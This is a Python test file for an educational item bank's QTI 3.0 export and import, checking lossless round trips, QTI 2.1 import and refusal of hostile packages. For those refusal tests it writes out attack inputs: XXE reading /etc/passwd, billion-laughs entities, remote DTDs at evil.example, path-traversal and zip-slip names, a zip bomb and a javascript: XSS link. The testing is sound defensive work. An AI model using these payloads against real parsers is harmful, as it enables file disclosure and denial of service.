"""QTI 3.0 export/import: lossless round trips, QTI 2.1 import, hostile XML and zip-slip refused."""

from __future__ import annotations

import tempfile
import zipfile
from pathlib import Path

import defusedxml.ElementTree as DET
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from item_bank import Item, ItemBankError, content_dir, load_bank, score_response
from item_bank.qti import CP_NS, CTC_NS, QTI3_NS, export_qti3, import_qti
from tests.item_bank.helpers import FIXTURES

Q = f"{{{QTI3_NS}}}"
QTI21 = FIXTURES / "qti21"


def _assert_same(before, after) -> None:
    assert len(after) == len(before)
    by_ref = {i.ref: i for i in after}
    for item in before:
        back = by_ref[item.ref]
        assert back.to_dict() == item.to_dict(), item.ref
        assert back == item
        assert back.content_hash() == item.content_hash()


def test_round_trip_fixtures_directory(fixture_items, tmp_path) -> None:
    export_qti3(fixture_items, tmp_path / "pkg")
    _assert_same(fixture_items, import_qti(tmp_path / "pkg"))
    _assert_same(fixture_items, load_bank(tmp_path / "pkg"))  # load_bank delegates to QTI


def test_round_trip_fixtures_zip(fixture_items, tmp_path) -> None:
    written = export_qti3(fixture_items, tmp_path / "bank.zip")
    assert zipfile.is_zipfile(written)
    _assert_same(fixture_items, import_qti(written))


def test_round_trip_tricky_text(raw_item, tmp_path) -> None:
    from item_bank import Item

    data = raw_item("fx-beaver-lunch")
    data["stem"]["zh-TW"] = (
        "<p>a &lt; b &amp;&amp; c &gt; d\u00a0“引號” 'x'</p><ul><li>一</li><li><b>二</b></li></ul>"
        "<table><tr><th colspan=\"2\">表</th></tr><tr><td>1</td><td>2</td></tr></table>"
        "行一<br>行二\n\t縮排 <span lang=\"en\">x<sub>2</sub></span> {{img:pic}} 尾"
    )
    data["stem"]["en"] = "  spaces  kept  <code>if x:\n    y</code>  "
    data["title"]["zh-TW"] = 'Tom & "Jerry" <3'
    data["options"][0]["text"]["en"] = "{{img:pic}}"
    data["rationale"]["en"] = "<i>why</i> & how"
    data["images"] = {"pic": "<svg xmlns='http://www.w3.org/2000/svg'><text>A&amp;B</text></svg>"}
    data["irt"] = {"model": "3pl", "a": 0.1 + 0.2, "d": [-1e-12], "c": 1 / 3, "parameter_set": "x y"}
    item = Item.from_dict(data)
    export_qti3([item], tmp_path / "pkg")
    _assert_same([item], import_qti(tmp_path / "pkg"))


def test_round_trip_numeric_variants(raw_item, tmp_path) -> None:
    from item_bank import Item

    items = []
    for n, (value, tol) in enumerate([(42, 0), (-3.75, 0.25), (1e-7, 1e-9), (12345678901, 1)]):
        data = raw_item("fx-count-loop")
        data["id"] = f"num-{n}"
        data["answer"] = {"kind": "numeric", "value": value, "tolerance": tol}
        items.append(Item.from_dict(data))
    export_qti3(items, tmp_path / "pkg")
    _assert_same(items, import_qti(tmp_path / "pkg"))


def test_round_trip_whole_starter_bank(tmp_path) -> None:
    root = content_dir()
    if not root.is_dir() or not any(root.rglob("*.yaml")):
        pytest.skip("item_bank/content/ has no items yet")
    bank = load_bank(root)
    export_qti3(bank, tmp_path / "bank")
    _assert_same(bank, import_qti(tmp_path / "bank"))


def test_export_uses_qti3_structures(fixture_items, tmp_path) -> None:
    pkg = export_qti3(fixture_items, tmp_path / "pkg")
    manifest = DET.parse(pkg / "imsmanifest.xml", forbid_dtd=True).getroot()
    assert manifest.tag == f"{{{CP_NS}}}manifest"
    resources = manifest.findall(f".//{{{CP_NS}}}resource")
    assert len(resources) == len(fixture_items)
    assert {r.get("type") for r in resources} == {"imsqti_item_xmlv3p0"}
    assert all(r.find(f".//{{{CTC_NS}}}item") is not None for r in resources)

    def item_root(item_id: str, version: int = 1):
        return DET.parse(pkg / "items" / f"{item_id}-v{version}.xml", forbid_dtd=True).getroot()

    choice = item_root("fx-beaver-lunch")
    assert choice.tag == f"{Q}qti-assessment-item"
    assert choice.find(f"{Q}qti-response-declaration/{Q}qti-correct-response/{Q}qti-value").text == "B"
    assert len(choice.findall(f".//{Q}qti-choice-interaction/{Q}qti-simple-choice")) == 4
    assert choice.find(f"{Q}qti-response-processing").get("template").endswith("match_correct.xml")
    order = item_root("fx-morning")
    assert order.find(f".//{Q}qti-order-interaction") is not None
    assert order.find(f"{Q}qti-response-declaration").get("cardinality") == "ordered"
    match = item_root("fx-match-signs")
    sets = match.findall(f".//{Q}qti-match-interaction/{Q}qti-simple-match-set")
    assert [len(s.findall(f"{Q}qti-simple-associable-choice")) for s in sets] == [3, 4]
    assert match.find(f".//{Q}qti-mapping") is not None  # partial credit via the mapping
    assert match.find(f".//{Q}qti-map-response") is not None
    text = item_root("fx-animal-word")
    assert text.find(f".//{Q}qti-text-entry-interaction") is not None
    assert text.find(f"{Q}qti-response-processing").get("template").endswith("map_response.xml")
    grid = item_root("fx-robot-path")
    custom = grid.find(f".//{Q}qti-custom-interaction")
    rows = [r.text for r in custom.iter(f"{{{CTC_NS}}}row")]
    assert rows == ["S..#.", ".#...", "...#G"]
    assert (pkg / "items" / "fx-robot-path-v1" / "map.svg").is_file()
    assert grid.find(f".//{Q}img").get("src") == "fx-robot-path-v1/map.svg"


def test_exported_partial_credit_processing_matches_our_scoring(by_id, tmp_path) -> None:
    """The explicit QTI conditions list exactly the orders our scorer gives 1 point."""
    item = by_id["fx-morning"]
    pkg = export_qti3([item], tmp_path / "pkg")
    root = DET.parse(pkg / "items" / "fx-morning-v1.xml", forbid_dtd=True).getroot()
    partial = [
        [v.text for v in ordered]
        for ordered in root.iter(f"{Q}qti-ordered")
    ]
    assert all(score_response(item, {"order": order}) == 1 for order in partial)
    assert len(partial) == len(item.key) - 1


def test_export_refuses_duplicate_items(fixture_items, tmp_path) -> None:
    with pytest.raises(ItemBankError, match="duplicate id and version"):
        export_qti3([*fixture_items, fixture_items[0]], tmp_path / "pkg")


# ------------------------------------------------------------------------------ QTI 2.x import


def test_qti21_import_needs_a_dimension() -> None:
    with pytest.raises(ItemBankError) as info:
        import_qti(QTI21)
    errors = info.value.errors
    assert len(errors) == 6
    assert all(e.field == "dimension" for e in errors)
    assert {Path(e.file).name for e in errors} == {
        "choice.xml", "multi.xml", "order.xml", "match.xml", "text.xml", "number.xml",
    }
    assert any(e.item_id == "tree-leaves" for e in errors)


def test_qti21_import(tmp_path) -> None:
    items = {i.id: i for i in import_qti(QTI21, default_dimension="D2", default_grades=(5,))}
    assert set(items) == {"tree-leaves", "even-numbers", "sort-sizes", "capitals", "next-colour", "half"}
    assert all(i.status == "draft" and i.version == 1 and i.grades == (5,) for i in items.values())
    assert all(i.dimension == "D2" for i in items.values())

    tree = items["tree-leaves"]
    assert tree.type == "single_choice" and tree.key == "ChoiceB"
    assert tree.option_ids == ("ChoiceA", "ChoiceB", "ChoiceC")
    assert "{{img:tree}}" in tree.stem.zh_tw and "How many <b>leaves</b>" in tree.stem.zh_tw
    assert tree.stem.en == tree.stem.zh_tw  # an English item fills both languages
    assert "script" not in tree.images["tree"] and "onload" not in tree.images["tree"]
    assert score_response(tree, {"choice": "ChoiceB"}) == 1

    assert items["even-numbers"].type == "multiple_response"
    assert items["even-numbers"].key == ("N2", "N4")
    order = items["sort-sizes"]
    assert order.type == "ordering" and order.key == ("S", "M", "L")
    assert order.title.zh_tw == "排大小" and order.title.en is None  # a zh-TW item
    match = items["capitals"]
    assert match.type == "matching" and match.key == (("Bee", "Hive"), ("Bird", "Nest"))
    assert match.right_ids == ("Nest", "Hive", "Burrow")
    text = items["next-colour"]
    assert text.answer.kind == "text" and text.answer.accepted == ("blue", "navy")
    assert not text.answer.case_sensitive
    assert score_response(text, {"text": "NAVY"}) == 1 and score_response(text, {"text": "red"}) == 0
    half = items["half"]  # a QTI 2.2 item
    assert (half.answer.kind, half.answer.value, half.answer.tolerance) == ("numeric", 2.5, 0.01)
    assert score_response(half, {"text": "２.５"}) == 1

    # imported items export and re-import losslessly too
    export_qti3(items.values(), tmp_path / "again")
    _assert_same(list(items.values()), import_qti(tmp_path / "again"))


def test_single_qti_item_file() -> None:
    (item,) = import_qti(QTI21 / "items" / "order.xml", default_dimension="D3")
    assert item.id == "sort-sizes" and item.dimension == "D3"


def _write_item(tmp_path: Path, body: str, manifest: str | None = None) -> Path:
    pkg = tmp_path / "pkg"
    (pkg / "items").mkdir(parents=True)
    (pkg / "items" / "a.xml").write_text(body, encoding="utf-8")
    (pkg / "imsmanifest.xml").write_text(
        manifest
        or '<manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1"><resources>'
        '<resource identifier="R" type="imsqti_item_xmlv2p1" href="items/a.xml">'
        '<file href="items/a.xml"/></resource></resources></manifest>',
        encoding="utf-8",
    )
    return pkg


CHOICE_21 = """<assessmentItem xmlns="http://www.imsglobal.org/xsd/imsqti_v2p1" identifier="q1"
 title="T" adaptive="false" timeDependent="false">
 <responseDeclaration identifier="RESPONSE" cardinality="single" baseType="identifier">
  <correctResponse><value>A</value></correctResponse></responseDeclaration>
 <itemBody>{body}<choiceInteraction responseIdentifier="RESPONSE" maxChoices="1">
  <simpleChoice identifier="A">a</simpleChoice><simpleChoice identifier="B">b</simpleChoice>
 </choiceInteraction></itemBody></assessmentItem>"""


def test_unsupported_interaction(tmp_path) -> None:
    pkg = _write_item(
        tmp_path,
        '<assessmentItem xmlns="http://www.imsglobal.org/xsd/imsqti_v2p1" identifier="essay" '
        'title="E" adaptive="false" timeDependent="false"><itemBody>'
        '<extendedTextInteraction responseIdentifier="RESPONSE"/></itemBody></assessmentItem>',
    )
    (err,) = import_qti_errors(pkg, default_dimension="D1")
    assert (err.item_id, err.field) == ("essay", "interaction")
    fields = {e.field for e in import_qti_errors(pkg)}
    assert fields == {"dimension", "interaction"}  # every problem is reported at once
    assert err.file.endswith("items/a.xml") and "not supported" in err.message


def test_external_image_refused(tmp_path) -> None:
    pkg = _write_item(tmp_path, CHOICE_21.format(body='<p><img src="http://evil.example/x.svg"/></p>'))
    (err,) = import_qti_errors(pkg, default_dimension="D1")
    assert (err.item_id, err.field) == ("item-q1", "images")  # a short foreign id is padded
    assert "external image" in err.message


def test_raster_image_refused(tmp_path) -> None:
    pkg = _write_item(tmp_path, CHOICE_21.format(body='<p><img src="pic.png" alt="p"/></p>'))
    (err,) = import_qti_errors(pkg, default_dimension="D1")
    assert err.field == "images" and "only SVG" in err.message


def test_manifest_path_traversal_refused(tmp_path) -> None:
    pkg = _write_item(
        tmp_path,
        CHOICE_21.format(body=""),
        manifest='<manifest xmlns="http://www.imsglobal.org/xsd/imscp_v1p1"><resources>'
        '<resource identifier="R" type="imsqti_item_xmlv2p1" href="../../../../etc/passwd">'
        "</resource></resources></manifest>",
    )
    (err,) = import_qti_errors(pkg)
    assert err.file.endswith("imsmanifest.xml") and "leaves the package" in err.message


def import_qti_errors(path, **kwargs):
    with pytest.raises(ItemBankError) as info:
        import_qti(path, **kwargs)
    return info.value.errors


# ------------------------------------------------------------------------------ hostile XML

XXE = """<?xml version="1.0"?>
<!DOCTYPE assessmentItem [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<assessmentItem xmlns="http://www.imsglobal.org/xsd/imsqti_v2p1" identifier="x" title="&xxe;"
 adaptive="false" timeDependent="false"><itemBody><p>&xxe;</p></itemBody></assessmentItem>"""

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<manifest>&lol9;</manifest>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE assessmentItem SYSTEM "http://evil.example/qti.dtd">
<assessmentItem xmlns="http://www.imsglobal.org/xsd/imsqti_v2p1" identifier="x" title="t"
 adaptive="false" timeDependent="false"/>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
<assessmentItem/>"""


@pytest.mark.parametrize("hostile", [XXE, EXTERNAL_DTD, PARAMETER_ENTITY], ids=["xxe", "dtd", "param"])
def test_hostile_item_xml_refused(tmp_path, hostile) -> None:
    pkg = _write_item(tmp_path, hostile)
    (err,) = import_qti_errors(pkg, default_dimension="D1")
    assert err.file == f"{pkg}/items/a.xml"
    assert "refused" in err.message
    assert "root:" not in str(err)  # nothing from /etc/passwd


def test_billion_laughs_manifest_refused(tmp_path) -> None:
    pkg = tmp_path / "pkg"
    pkg.mkdir()
    (pkg / "imsmanifest.xml").write_text(BILLION_LAUGHS, encoding="utf-8")
    (err,) = import_qti_errors(pkg)
    assert err.file == f"{pkg}/imsmanifest.xml" and "refused" in err.message
    assert str(err).startswith(f"{pkg}/imsmanifest.xml: item ?, field -: refused")


def test_hostile_xml_inside_zip_refused(tmp_path) -> None:
    path = tmp_path / "x.zip"
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("imsmanifest.xml", BILLION_LAUGHS)
    (err,) = import_qti_errors(path)
    assert err.file == f"{path}!/imsmanifest.xml" and "refused" in err.message


def test_hostile_svg_in_package_refused(tmp_path) -> None:
    pkg = _write_item(tmp_path, CHOICE_21.format(body='<p><img src="evil.svg"/></p>'))
    (pkg / "items" / "evil.svg").write_text(
        '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>', encoding="utf-8"
    )
    (err,) = import_qti_errors(pkg, default_dimension="D1")
    assert err.field == "images.evil" and "refused" in err.message


# ------------------------------------------------------------------------------ zip safety


@pytest.mark.parametrize("member", ["../evil.xml", "items/../../evil.xml", "/etc/evil.xml", "C:/evil.xml"])
def test_zip_slip_refused(tmp_path, fixture_items, member) -> None:
    good = export_qti3(fixture_items[:1], tmp_path / "good.zip")
    bad = tmp_path / "bad.zip"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bad, "w") as dst:
        for info in src.infolist():
            dst.writestr(info, src.read(info))
        dst.writestr(zipfile.ZipInfo(member), b"<x/>")
    errors = import_qti_errors(bad)
    assert any("zip-slip" in e.message and e.file == str(bad) for e in errors)
    assert not (tmp_path.parent / "evil.xml").exists()


def test_oversize_member_refused(tmp_path, fixture_items, monkeypatch) -> None:
    from item_bank.qti import package

    path = export_qti3(fixture_items, tmp_path / "bank.zip")
    monkeypatch.setattr(package, "MAX_MEMBER_BYTES", 1000)
    errors = import_qti_errors(path)
    assert errors and all("more than 1000" in e.message for e in errors)


def test_lying_zip_header_is_caught(tmp_path, monkeypatch) -> None:
    """A member whose real size exceeds the limit is refused while reading, whatever the header says."""
    from item_bank.qti import package

    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("imsmanifest.xml", b"<manifest>" + b" " * 50_000 + b"</manifest>")
    pkg = package.ZipPackage(path)
    assert pkg.open() == []
    monkeypatch.setattr(package, "MAX_MEMBER_BYTES", 1000)
    with pytest.raises(ValueError, match="larger than 1000"):
        pkg.read("imsmanifest.xml")


def test_not_a_zip(tmp_path) -> None:
    path = tmp_path / "fake.zip"
    path.write_bytes(b"not a zip")
    (err,) = import_qti_errors(path)
    assert "not a readable zip" in err.message


def test_metadata_type_mismatch(fixture_items, tmp_path) -> None:
    item = next(i for i in fixture_items if i.type == "single_choice")
    pkg = export_qti3([item], tmp_path / "pkg")
    manifest = (pkg / "imsmanifest.xml").read_text(encoding="utf-8")
    (pkg / "imsmanifest.xml").write_text(manifest.replace('type="single_choice"', 'type="ordering"'))
    (err,) = import_qti_errors(pkg)
    assert (err.item_id, err.field) == (item.id, "type")


def test_imported_text_is_sanitised(tmp_path) -> None:
    pkg = _write_item(
        tmp_path,
        CHOICE_21.format(body='<p onclick="x()">Hi<a href="javascript:alert(1)">there</a></p>'),
    )
    (item,) = import_qti(pkg, default_dimension="D1")
    assert item.stem.zh_tw == "<p>Hithere</p>"


# ------------------------------------------------------------------------------ properties

_CHARS = st.text(alphabet=st.sampled_from(list("ab 中文<>&\"'\n\t\u00a0{}:;=/")), max_size=8)
_TAGS = st.sampled_from(
    ["b", "i", "em", "strong", "code", "span", "sub", "sup", "p", "ul", "ol", "li", "table", "tr",
     "td", "th", "br", "div", "a", "script", "img"]
)
_FRAGMENT = st.recursive(
    _CHARS,
    lambda inner: st.builds(lambda t, parts: f"<{t}>{''.join(parts)}</{t}>", _TAGS, st.lists(inner, max_size=3)),
    max_leaves=10,
)
_HTML = st.lists(_FRAGMENT | st.sampled_from(["<br>", "{{img:pic}}", "&amp;", "&lt;b&gt;"]), max_size=5).map(
    "".join
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(stem=_HTML, option=_HTML, title=_CHARS)
def test_round_trip_any_text(raw_item, stem, option, title) -> None:
    from item_bank import Item

    data = raw_item("fx-beaver-lunch")
    data["stem"] = {"zh-TW": "題" + stem, "en": "x" + stem}  # a prefix keeps the text non-empty
    data["options"][1]["text"] = {"zh-TW": "乙" + option, "en": "B" + option}
    data["title"]["en"] = "t" + title
    data["images"] = {"pic": "<svg xmlns='http://www.w3.org/2000/svg'/>"}
    item = Item.from_dict(data)
    with tempfile.TemporaryDirectory() as tmp:
        export_qti3([item], Path(tmp) / "pkg")
        _assert_same([item], import_qti(Path(tmp) / "pkg"))


FOREIGN_QTI3 = """<?xml version="1.0" encoding="UTF-8"?>
<qti-assessment-item xmlns="http://www.imsglobal.org/xsd/imsqtiasi_v3p0" identifier="Q3_Order"
  title="Planets" adaptive="false" time-dependent="false" xml:lang="en">
  <qti-response-declaration identifier="RESPONSE" cardinality="ordered" base-type="identifier">
    <qti-correct-response><qti-value>Mercury</qti-value><qti-value>Venus</qti-value>
      <qti-value>Earth</qti-value></qti-correct-response>
  </qti-response-declaration>
  <qti-outcome-declaration identifier="SCORE" cardinality="single" base-type="float"/>
  <qti-item-body>
    <qti-order-interaction response-identifier="RESPONSE" shuffle="true">
      <qti-prompt>Order the planets from the Sun outwards.</qti-prompt>
      <qti-simple-choice identifier="Earth">Earth</qti-simple-choice>
      <qti-simple-choice identifier="Mercury">Mercury</qti-simple-choice>
      <qti-simple-choice identifier="Venus">Venus</qti-simple-choice>
    </qti-order-interaction>
  </qti-item-body>
  <qti-response-processing template="https://purl.imsglobal.org/spec/qti/v3p0/rptemplates/match_correct"/>
</qti-assessment-item>"""


def test_foreign_qti3_item(tmp_path) -> None:
    pkg = _write_item(
        tmp_path,
        FOREIGN_QTI3,
        manifest='<manifest xmlns="http://www.imsglobal.org/xsd/qti/qtiv3p0/imscp_v1p1"><resources>'
        '<resource identifier="R" type="imsqti_item_xmlv3p0" href="items/a.xml">'
        '<file href="items/a.xml"/></resource></resources></manifest>',
    )
    (item,) = import_qti(pkg, default_dimension="D1")
    assert (item.id, item.type, item.status) == ("q3-order", "ordering", "draft")
    assert item.key == ("Mercury", "Venus", "Earth")
    assert item.stem.en == "Order the planets from the Sun outwards."
    assert score_response(item, {"order": ["Mercury", "Venus", "Earth"]}) == 1


NUMBER_21 = """<assessmentItem xmlns="http://www.imsglobal.org/xsd/imsqti_v2p1" identifier="num1" title="N">
 <responseDeclaration identifier="RESPONSE" cardinality="single" baseType="{base}">
  <correctResponse><value>{value}</value></correctResponse></responseDeclaration>
 <itemBody><p>How many? <textEntryInteraction responseIdentifier="RESPONSE"/></p></itemBody>
 {processing}</assessmentItem>"""


@pytest.mark.parametrize(
    ("value", "found"), [("9" * 400, "found int 999999999999... (400 digits)"), ("9" * 5000, "found float inf")]
)
def test_huge_integer_correct_response_is_an_error(tmp_path, value: str, found: str) -> None:
    pkg = _write_item(tmp_path, NUMBER_21.format(base="integer", value=value, processing=""))
    (err,) = import_qti_errors(pkg, default_dimension="D1")
    assert (err.item_id, err.field) == ("num1", "answer.value")
    assert f"must be a number, {found}" in err.message


def test_non_ascii_digits_in_metadata_are_errors(fixture_items, tmp_path) -> None:
    item = next(i for i in fixture_items if i.type == "grid_path")
    export_qti3([item], tmp_path / "pkg")
    manifest = tmp_path / "pkg" / "imsmanifest.xml"
    text = manifest.read_text(encoding="utf-8")
    assert 'version="1"' in text
    manifest.write_text(text.replace('version="1"', 'version="²"', 1), encoding="utf-8")
    errors = import_qti_errors(tmp_path / "pkg")
    assert [(e.item_id, e.field) for e in errors] == [(item.id, "version")]
    assert "must be a positive integer" in errors[0].message and "'²'" in errors[0].message


def test_several_versions_of_an_item_export_with_unique_identifiers(by_id, tmp_path) -> None:
    v1 = by_id["fx-beaver-lunch"]
    data = v1.to_dict() | {"version": 2}
    data["stem"] = dict(data["stem"], **{"zh-TW": data["stem"]["zh-TW"] + "（第二版）"})
    v2 = Item.from_dict(data)
    pkg = export_qti3([v1, v2], tmp_path / "pkg")
    manifest = DET.parse(pkg / "imsmanifest.xml", forbid_dtd=True).getroot()
    resources = manifest.findall(f".//{{{CP_NS}}}resource")
    assert [r.get("identifier") for r in resources] == ["res-fx-beaver-lunch-v1", "res-fx-beaver-lunch-v2"]
    identifiers = [DET.parse(pkg / r.get("href"), forbid_dtd=True).getroot().get("identifier") for r in resources]
    assert identifiers == ["fx-beaver-lunch-v1", "fx-beaver-lunch-v2"]
    back = sorted(import_qti(pkg), key=lambda i: i.version)
    assert back == [v1, v2] and back[0].content_hash() != back[1].content_hash()


TEXT_21 = """<assessmentItem xmlns="http://www.imsglobal.org/xsd/imsqti_v2p1" identifier="word1" title="W">
 <responseDeclaration identifier="RESPONSE" cardinality="single" baseType="string">
  <correctResponse><value>York</value></correctResponse>{mapping}</responseDeclaration>
 <itemBody><p>Sun of <textEntryInteraction responseIdentifier="RESPONSE"/></p></itemBody>
 <responseProcessing template="http://www.imsglobal.org/question/qti_v2p1/rptemplates/{template}"/>
</assessmentItem>"""

EQUAL = """<responseProcessing><responseCondition><responseIf>
 <{element} {attrs}><variable identifier="RESPONSE"/><correct identifier="RESPONSE"/></{element}>
 <setOutcomeValue identifier="SCORE"><baseValue baseType="float">1</baseValue></setOutcomeValue>
 </responseIf></responseCondition></responseProcessing>"""


def _text_entry(tmp_path: Path, entries: str, template: str = "map_response", mapping_attrs: str = 'defaultValue="0"'):
    mapping = f"<mapping {mapping_attrs}>{entries}</mapping>" if entries is not None else ""
    return _write_item(tmp_path, TEXT_21.format(mapping=mapping, template=template))


def test_relative_tolerance_becomes_the_same_absolute_interval(tmp_path) -> None:
    rp = EQUAL.format(element="equal", attrs='toleranceMode="relative" tolerance="1 1"')
    (item,) = import_qti(_write_item(tmp_path, NUMBER_21.format(base="float", value="3.14", processing=rp)),
                         default_dimension="D1")
    assert (item.answer.value, item.answer.tolerance) == (3.14, 0.0314)
    assert [score_response(item, {"text": t}) for t in ("3.17", "3.11", "3.18", "3.1")] == [1, 1, 0, 0]


@pytest.mark.parametrize(
    ("attrs", "element", "message"),
    [
        ('toleranceMode="absolute" tolerance="zz"', "equal", "tolerance 'zz' is not one or two numbers >= 0"),
        ('toleranceMode="absolute" tolerance=""', "equal", "tolerance '' is not one or two numbers >= 0"),
        ('toleranceMode="absolute" tolerance="0.1 0.5"', "equal", "differs below and above the answer"),
        ('toleranceMode="relative" tolerance="-1"', "equal", "not one or two numbers >= 0"),
        ('toleranceMode="absolute" tolerance="0.1" includeLowerBound="false"', "equal", "excludes its bounds"),
        ('roundingMode="decimalPlaces" figures="1"', "equalRounded", "rounds the answer"),
    ],
    ids=["unparseable", "empty", "asymmetric", "negative", "exclusive bound", "rounding"],
)
def test_numeric_comparisons_ctcensus_cannot_keep_are_refused(tmp_path, attrs: str, element: str, message: str) -> None:
    rp = EQUAL.format(element=element, attrs=attrs)
    pkg = _write_item(tmp_path, NUMBER_21.format(base="float", value="2.5", processing=rp))
    (err,) = import_qti_errors(pkg, default_dimension="D1")
    assert (err.item_id, err.field) == ("num1", "answer.tolerance") and message in err.message
    assert err.file.endswith("items/a.xml")


@pytest.mark.parametrize(
    ("entries", "mapping_attrs", "field", "message"),
    [
        ('<mapEntry mapKey="York" mappedValue="1" caseSensitive="true"/>'
         '<mapEntry mapKey="york" mappedValue="0.5" caseSensitive="true"/>', 'defaultValue="0"',
         "answer.accepted", "map entry 'york' is worth 0.5 of 1 (partial credit)"),
        ('<mapEntry mapKey="York" mappedValue="1" caseSensitive="true"/>'
         '<mapEntry mapKey="Lancaster" mappedValue="-1" caseSensitive="true"/>', 'defaultValue="0"',
         "answer.accepted", "map entry 'Lancaster' is worth -1 (negative marking)"),
        ('<mapEntry mapKey="York" mappedValue="1" caseSensitive="true"/>', 'defaultValue="0.5"',
         "answer", "the mapping gives 0.5 to every other answer"),
        ('<mapEntry mapKey="York" mappedValue="one" caseSensitive="true"/>', 'defaultValue="0"',
         "answer.accepted", "map entry 'York' has mapped-value 'one', which is not a number"),
        ('<mapEntry mapKey="York" mappedValue="1" caseSensitive="true"/>'
         '<mapEntry mapKey="york" mappedValue="1" caseSensitive="false"/>', 'defaultValue="0"',
         "answer.case_sensitive", "mixes case-sensitive and case-insensitive answers"),
    ],
    ids=["partial credit", "negative marking", "default credit", "not a number", "mixed case sensitivity"],
)
def test_text_mappings_ctcensus_cannot_keep_are_refused(tmp_path, entries, mapping_attrs, field, message) -> None:
    (err,) = import_qti_errors(_text_entry(tmp_path, entries, mapping_attrs=mapping_attrs), default_dimension="D1")
    assert (err.item_id, err.field) == ("word1", field) and message in err.message


def test_text_mappings_that_are_0_or_1_import(tmp_path) -> None:
    # full-credit entries are accepted answers; 0 and bounded-away negative entries are wrong answers
    entries = ('<mapEntry mapKey="York" mappedValue="2" caseSensitive="false"/>'
               '<mapEntry mapKey="Yorke" mappedValue="5" caseSensitive="false"/>'
               '<mapEntry mapKey="Lancaster" mappedValue="-1" caseSensitive="false"/>'
               '<mapEntry mapKey="Kent" mappedValue="0" caseSensitive="false"/>')
    pkg = _text_entry(tmp_path / "a", entries, mapping_attrs='defaultValue="0" lowerBound="0" upperBound="2"')
    (item,) = import_qti(pkg, default_dimension="D1")
    assert (item.answer.accepted, item.answer.case_sensitive, item.max_score) == (("York", "Yorke"), False, 1)
    assert [score_response(item, {"text": t}) for t in ("york", "YORKE", "Lancaster", "Kent")] == [1, 1, 0, 0]
    # match_correct scores against the correct response; an unused mapping must not add answers
    pkg = _text_entry(tmp_path / "b", entries, template="match_correct")
    (item,) = import_qti(pkg, default_dimension="D1")
    assert (item.answer.accepted, item.answer.case_sensitive) == (("York",), True)


def test_numeric_mapping_with_several_values_is_refused(tmp_path) -> None:
    body = NUMBER_21.format(base="float", value="0.5", processing="").replace(
        "</correctResponse>", '</correctResponse><mapping defaultValue="0"><mapEntry mapKey="0.5" mappedValue="1"/>'
        '<mapEntry mapKey="0.50" mappedValue="1"/><mapEntry mapKey="2" mappedValue="1"/></mapping>')
    (err,) = import_qti_errors(_write_item(tmp_path, body), default_dimension="D1")
    assert (err.item_id, err.field) == ("num1", "answer.value") and "accepts several numbers" in err.message


SVG = "<svg xmlns='http://www.w3.org/2000/svg' viewBox='0 0 4 4'><rect width='4' height='2'/></svg>"


def test_svg_object_becomes_an_image(tmp_path) -> None:
    pkg = _write_item(tmp_path, CHOICE_21.format(
        body='<p>Look: <object type="image/svg+xml" data="pic.svg" width="40">a bar</object></p>'))
    (pkg / "items" / "pic.svg").write_text(SVG, encoding="utf-8")
    (item,) = import_qti(pkg, default_dimension="D1")
    assert item.stem.zh_tw == "<p>Look: {{img:pic}}</p>"
    assert list(item.images) == ["pic"] and "<rect" in item.images["pic"]


@pytest.mark.parametrize(
    ("body", "field", "message"),
    [
        ('<p>Solve <math xmlns="http://www.w3.org/1998/Math/MathML"><mi>x</mi><mo>+</mo><mn>2</mn></math> = 5</p>',
         "stem", "<math> (MathML) cannot be imported"),
        ('<p><svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1"/></svg></p>',
         "stem", "<svg> (inline SVG) cannot be imported"),
        ('<p><object type="video/mp4" data="clip.mp4">a clip</object></p>', "stem", "<object data='clip.mp4'> cannot"),
        ('<p><object data="sheet.pdf">a sheet</object></p>', "stem", "<object data='sheet.pdf'> cannot be imported"),
        ('<p><video src="clip.mp4"/></p>', "stem", "<video> cannot be imported"),
        ('<p>x = <printedVariable identifier="X"/></p>', "stem", "<qti-printed-variable> cannot be imported"),
        ('<rubricBlock view="candidate"><p>Use a pencil.</p></rubricBlock>', "stem", 'rubricBlock view="candidate"'),
    ],
    ids=["MathML", "inline SVG", "video object", "pdf object", "video", "printed variable", "candidate rubric"],
)
def test_content_the_item_cannot_show_is_refused_not_dropped(tmp_path, body: str, field: str, message: str) -> None:
    (err,) = import_qti_errors(_write_item(tmp_path, CHOICE_21.format(body=body)), default_dimension="D1")
    assert (err.item_id, err.field) == ("item-q1", field) and message in err.message
    assert err.file.endswith("items/a.xml")


def test_mathml_in_an_option_names_the_options(tmp_path) -> None:
    body = CHOICE_21.format(body="<p>Which?</p>").replace(
